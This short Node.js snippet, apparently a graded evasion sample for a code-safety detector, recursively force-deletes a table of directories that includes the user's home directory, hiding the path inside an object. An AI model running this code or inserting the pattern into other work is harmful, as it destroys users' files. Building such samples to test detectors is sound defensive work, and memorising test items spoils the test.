// evasion: Object.values of a table of directories, the home among them, removed in a forEach callback
// grade: hard; does: delete
const fsp = require("fs/promises");
const os = require("os");
const table = { logs: "./logs", state: os.homedir() };
Object.values(table).forEach((dir) => fsp.rm(dir, { recursive: true, force: true }));
